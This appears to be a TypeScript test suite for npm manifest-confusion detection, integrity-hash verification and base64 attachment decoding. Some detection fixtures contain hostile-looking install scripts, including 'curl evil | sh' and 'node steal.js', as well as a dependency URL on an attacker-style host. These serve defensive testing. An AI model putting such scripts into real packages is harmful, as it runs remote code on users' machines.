import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { describe, it } from 'node:test';
import { isStockadeError } from '../../../src/errors.js';
import {
  assertManifestMatches,
  compareManifest,
  decodeAttachment,
  verifyIntegrity,
  type CompareOptions,
} from '../../../src/formats/npm/manifest-check.js';

type Manifest = Record<string, unknown>;

function expectCode(fn: () => unknown, code: string, ...mentions: string[]): void {
  assert.throws(fn, (error: unknown) => {
    assert.ok(isStockadeError(error), String(error));
    assert.equal(error.code, code, error.message);
    for (const mention of mentions) assert.ok(error.message.includes(mention), `"${error.message}" should mention ${mention}`);
    return true;
  });
}

const base = { name: 'demo', version: '1.0.0' };
const files = (...paths: string[]): CompareOptions['files'] => paths.map((path) => ({ path, type: 'file' }));

describe('compareManifest: what npm 11 changes on publish is not a difference', () => {
  // Each `claimed` is what npm 11.19 put in the PUT body for the `actual` package.json.
  const cases: { name: string; claimed: Manifest; actual: Manifest; options?: CompareOptions }[] = [
    { name: 'identical documents', claimed: { ...base, main: 'index.js' }, actual: { ...base, main: 'index.js' } },
    {
      name: 'publish-only fields (_id, dist, readme, gitHead, _npmVersion)',
      claimed: { ...base, _id: 'demo@1.0.0', dist: { shasum: 'x' }, readme: '# hi', gitHead: 'abc', _npmVersion: '11.19.1' },
      actual: base,
    },
    {
      name: 'bin as a string becomes {<bare name>: path}',
      claimed: { name: '@acme/hello', version: '1.0.0', bin: { hello: 'bin/cli.js' } },
      actual: { name: '@acme/hello', version: '1.0.0', bin: './bin/cli.js' },
    },
    {
      name: 'bin keys and paths are sanitized (npm-normalize-package-bin)',
      claimed: { ...base, bin: { ok: 'b.js', evil: 'x', d: 'x/y.js' } },
      actual: { ...base, bin: { '../evil': '../../x', ok: './a/../b.js', 'c:d': 'x\\y.js', n: 5 } },
    },
    {
      name: 'bin as an array becomes a map by basename',
      claimed: { ...base, bin: { 'x.js': 'bin/x.js' } },
      actual: { ...base, bin: ['bin/x.js'] },
    },
    { name: 'main with and without ./', claimed: { ...base, main: './index.js' }, actual: { ...base, main: 'index.js' } },
    {
      name: 'directories with ./ and trailing slashes',
      claimed: { ...base, directories: { lib: './lib', man: 'man/' } },
      actual: { ...base, directories: { man: './man', lib: 'lib' } },
    },
    {
      name: 'key order in maps',
      claimed: { ...base, dependencies: { b: '2', a: '1' }, scripts: { test: 't', build: 'b' }, engines: { npm: '>=9', node: '>=18' } },
      actual: { ...base, dependencies: { a: '1', b: '2' }, scripts: { build: 'b', test: 't' }, engines: { node: '>=18', npm: '>=9' } },
    },
    {
      name: 'missing fields and empty maps',
      claimed: { ...base, dependencies: {}, scripts: {}, engines: {}, directories: {}, bin: {}, os: [] },
      actual: base,
    },
    {
      name: 'version cleaned by npm (v prefix, build metadata)',
      claimed: { ...base, version: '1.0.0-beta.1' },
      actual: { ...base, version: 'v1.0.0-beta.1+build' },
    },
    { name: 'version with a leading =', claimed: base, actual: { ...base, version: '=1.0.0' } },
    {
      name: 'bundledDependencies spelled the old way',
      claimed: { ...base, dependencies: { a: '1' }, bundleDependencies: ['a'] },
      actual: { ...base, dependencies: { a: '1' }, bundledDependencies: ['a'] },
    },
    {
      name: 'bundleDependencies: true expands to every dependency',
      claimed: { ...base, dependencies: { a: '1', b: '2' }, bundleDependencies: ['a', 'b'] },
      actual: { ...base, dependencies: { a: '1', b: '2' }, bundleDependencies: true },
    },
    { name: 'bundleDependencies: false', claimed: { ...base, bundleDependencies: [] }, actual: { ...base, bundleDependencies: false } },
    {
      name: 'a bundled name missing from dependencies is added as *',
      claimed: { ...base, dependencies: { a: '1', z: '*' }, bundleDependencies: ['z'] },
      actual: { ...base, dependencies: { a: '1' }, bundleDependencies: ['z'] },
    },
    {
      name: 'hosted git dependencies rewritten by hosted-git-info',
      claimed: { ...base, dependencies: { a: 'github:x/y', c: 'git+https://github.com/x/y.git', d: 'github:u/r#v1.2.0' } },
      actual: { ...base, dependencies: { a: 'x/y', c: 'https://github.com/x/y', d: 'git@github.com:u/r.git#v1.2.0' } },
    },
    {
      name: 'devDependencies given as a string',
      claimed: { ...base, devDependencies: { q: '1', r: '' } },
      actual: { ...base, devDependencies: 'q@1, r' },
    },
    {
      name: 'scripts: non-strings dropped, node_modules/.bin prefix stripped',
      claimed: { ...base, scripts: { build: 'tsc', t: 'x y' } },
      actual: { ...base, scripts: { build: './node_modules/.bin/tsc', t: 'node_modules/.bin/x y', bad: 5 } },
    },
    {
      name: 'install script added for a root binding.gyp, start for server.js',
      claimed: { ...base, scripts: { install: 'node-gyp rebuild', start: 'node server.js' }, gypfile: true },
      actual: base,
      options: { files: files('package.json', 'binding.gyp', 'server.js') },
    },
    {
      name: 'bin expanded from directories.bin (folders included, dot entries skipped)',
      claimed: { ...base, directories: { bin: './bin/' }, bin: { top: 'bin//top', sub: 'bin//sub', deep: 'bin//sub/deep' } },
      actual: { ...base, directories: { bin: './bin/' } },
      options: { files: files('package.json', 'bin/top', 'bin/sub/deep', 'bin/.dot', 'bin/.h/x') },
    },
    { name: 'os as a string or a reordered list', claimed: { ...base, os: ['linux'], cpu: ['x64', 'arm64'] }, actual: { ...base, os: 'linux', cpu: ['arm64', 'x64'] } },
  ];
  for (const testCase of cases) {
    it(testCase.name, () => {
      assert.deepEqual(compareManifest(testCase.claimed, testCase.actual, testCase.options), []);
      assert.doesNotThrow(() => assertManifestMatches(testCase.claimed, testCase.actual, testCase.options));
    });
  }
});

describe('compareManifest: manifest confusion is reported', () => {
  const cases: { name: string; claimed: Manifest; actual: Manifest; options?: CompareOptions; expected: { field: string; key?: string }[] }[] = [
    { name: 'a different name', claimed: base, actual: { ...base, name: 'other' }, expected: [{ field: 'name' }] },
    { name: 'a different version', claimed: base, actual: { ...base, version: '1.0.1' }, expected: [{ field: 'version' }] },
    {
      name: 'an install script hidden from the metadata',
      claimed: { ...base, scripts: { test: 'node test' } },
      actual: { ...base, scripts: { test: 'node test', postinstall: 'node steal.js' } },
      expected: [{ field: 'scripts', key: 'postinstall' }],
    },
    {
      name: 'a changed script body',
      claimed: { ...base, scripts: { preinstall: 'echo ok' } },
      actual: { ...base, scripts: { preinstall: 'curl evil | sh' } },
      expected: [{ field: 'scripts', key: 'preinstall' }],
    },
    {
      name: 'a hidden dependency',
      claimed: { ...base, dependencies: { a: '1' } },
      actual: { ...base, dependencies: { a: '1', evil: '1' } },
      expected: [{ field: 'dependencies', key: 'evil' }],
    },
    {
      name: 'a dependency range changed',
      claimed: { ...base, dependencies: { a: '^1.0.0' } },
      actual: { ...base, dependencies: { a: 'https://evil.example/a.tgz' } },
      expected: [{ field: 'dependencies', key: 'a' }],
    },
    {
      name: 'a git dependency pointing at another ref',
      claimed: { ...base, dependencies: { a: 'github:x/y#v1' } },
      actual: { ...base, dependencies: { a: 'x/y#v2' } },
      expected: [{ field: 'dependencies', key: 'a' }],
    },
    {
      name: 'a git dependency on another host',
      claimed: { ...base, dependencies: { a: 'github:x/y' } },
      actual: { ...base, dependencies: { a: 'gitlab:x/y' } },
      expected: [{ field: 'dependencies', key: 'a' }],
    },
    {
      name: 'every dependency kind',
      claimed: base,
      actual: {
        ...base,
        optionalDependencies: { o: '1' },
        peerDependencies: { p: '1' },
        devDependencies: { d: '1' },
      },
      expected: [
        { field: 'optionalDependencies', key: 'o' },
        { field: 'peerDependencies', key: 'p' },
        { field: 'devDependencies', key: 'd' },
      ],
    },
    {
      name: 'a __proto__ key is compared like any other',
      claimed: base,
      actual: JSON.parse('{"name":"demo","version":"1.0.0","dependencies":{"__proto__":"1"}}') as Manifest,
      expected: [{ field: 'dependencies', key: '__proto__' }],
    },
    {
      name: 'bundleDependencies',
      claimed: { ...base, dependencies: { a: '1' } },
      actual: { ...base, dependencies: { a: '1' }, bundleDependencies: ['a'] },
      expected: [{ field: 'bundleDependencies' }],
    },
    { name: 'bin', claimed: { ...base, bin: { demo: 'cli.js' } }, actual: { ...base, bin: { demo: 'evil.js' } }, expected: [{ field: 'bin', key: 'demo' }] },
    { name: 'main', claimed: { ...base, main: 'index.js' }, actual: { ...base, main: 'evil.js' }, expected: [{ field: 'main' }] },
    { name: 'os', claimed: { ...base, os: ['linux'] }, actual: { ...base, os: ['linux', 'win32'] }, expected: [{ field: 'os' }] },
    { name: 'cpu', claimed: base, actual: { ...base, cpu: ['x64'] }, expected: [{ field: 'cpu' }] },
    { name: 'engines', claimed: { ...base, engines: { node: '>=18' } }, actual: { ...base, engines: { node: '>=20' } }, expected: [{ field: 'engines', key: 'node' }] },
    { name: 'directories', claimed: base, actual: { ...base, directories: { bin: 'bin' } }, expected: [{ field: 'directories', key: 'bin' }] },
    {
      name: 'a gyp install script claimed without the file list to justify it',
      claimed: { ...base, scripts: { install: 'node-gyp rebuild' } },
      actual: base,
      expected: [{ field: 'scripts', key: 'install' }],
    },
    {
      name: 'a gyp install script when the package has its own preinstall',
      claimed: { ...base, scripts: { preinstall: 'x', install: 'node-gyp rebuild' } },
      actual: { ...base, scripts: { preinstall: 'x' } },
      options: { files: files('binding.gyp') },
      expected: [{ field: 'scripts', key: 'install' }],
    },
  ];
  for (const testCase of cases) {
    it(testCase.name, () => {
      assert.deepEqual(compareManifest(testCase.claimed, testCase.actual, testCase.options), testCase.expected);
    });
  }

  it('assertManifestMatches names the first differing field and key', () => {
    expectCode(
      () => assertManifestMatches({ ...base, scripts: {} }, { ...base, scripts: { postinstall: 'node steal.js' }, main: 'x.js' }),
      'MANIFEST_MISMATCH',
      '"scripts.postinstall"',
    );
    expectCode(() => assertManifestMatches(base, { ...base, main: 'x.js' }), 'MANIFEST_MISMATCH', '"main"');
  });
});

describe('verifyIntegrity', () => {
  const data = Buffer.from('tarball bytes');
  const sha512 = `sha512-${createHash('sha512').update(data).digest('base64')}`;
  const sha1hex = createHash('sha1').update(data).digest('hex');

  it('computes sha512 integrity and sha1 shasum', () => {
    assert.deepEqual(verifyIntegrity(data, {}), { integrity: sha512, shasum: sha1hex });
  });

  const accepted: [string, { integrity?: string; shasum?: string }][] = [
    ['the sha512 npm sends', { integrity: sha512, shasum: sha1hex }],
    ['an upper-case shasum', { shasum: sha1hex.toUpperCase() }],
    ['a sha1 integrity', { integrity: `sha1-${createHash('sha1').update(data).digest('base64')}` }],
    ['several algorithms', { integrity: `sha256-${createHash('sha256').update(data).digest('base64')} ${sha512}` }],
  ];
  for (const [label, claimed] of accepted) {
    it(`accepts ${label}`, () => assert.equal(verifyIntegrity(data, claimed).integrity, sha512));
  }

  const rejected: [string, Record<string, unknown>, string][] = [
    ['a wrong sha512', { integrity: `sha512-${createHash('sha512').update('other').digest('base64')}` }, 'dist.integrity'],
    ['one wrong hash among right ones', { integrity: `${sha512} sha256-${createHash('sha256').update('x').digest('base64')}` }, 'dist.integrity'],
    ['an unparsable integrity', { integrity: 'not-an-sri' }, 'not a valid integrity string'],
    ['an empty integrity', { integrity: '' }, 'dist.integrity'],
    ['a non-string integrity', { integrity: 5 }, 'not a string'],
    ['a wrong shasum', { shasum: createHash('sha1').update('other').digest('hex') }, 'dist.shasum'],
    ['a non-string shasum', { shasum: null }, 'dist.shasum'],
  ];
  for (const [label, claimed, mention] of rejected) {
    it(`rejects ${label}`, () => expectCode(() => verifyIntegrity(data, claimed), 'INTEGRITY_MISMATCH', mention));
  }
});

describe('decodeAttachment', () => {
  const bytes = Buffer.from('hello tarball!');
  const encoded = bytes.toString('base64');

  it('decodes canonical base64 and checks the declared length', () => {
    assert.deepEqual(decodeAttachment(encoded, bytes.length), bytes);
    assert.deepEqual(decodeAttachment(encoded), bytes);
  });

  const rejected: [string, unknown, unknown, string][] = [
    ['missing data', undefined, undefined, 'non-empty base64 string'],
    ['empty data', '', undefined, 'non-empty base64 string'],
    ['a number', 42, undefined, 'non-empty base64 string'],
    ['a character outside the alphabet', 'aGVs$G8=', undefined, 'character "$" at offset 4'],
    ['URL-safe base64', 'aGV-bG8_', undefined, 'character "-" at offset 3'],
    ['embedded whitespace', `${encoded.slice(0, 4)}\n${encoded.slice(4)}`, undefined, 'character "\\x0a" at offset 4'],
    ['padding in the middle', 'aG==bG8=', undefined, 'padding'],
    ['missing padding', 'aGVsbG8', undefined, 'not a multiple of 4'],
    ['non-canonical trailing bits', 'aGVsbG9=', undefined, 'bad padding'],
    ['a length that differs', encoded, bytes.length + 1, `declared length ${bytes.length + 1} differs from the ${bytes.length} decoded bytes`],
    ['a length given as a string', encoded, String(bytes.length), 'length must be a non-negative integer'],
    ['a negative length', encoded, -1, 'length must be a non-negative integer'],
  ];
  for (const [label, data, length, mention] of rejected) {
    it(`rejects ${label}`, () => expectCode(() => decodeAttachment(data, length), 'INVALID_ATTACHMENT', mention));
  }
});
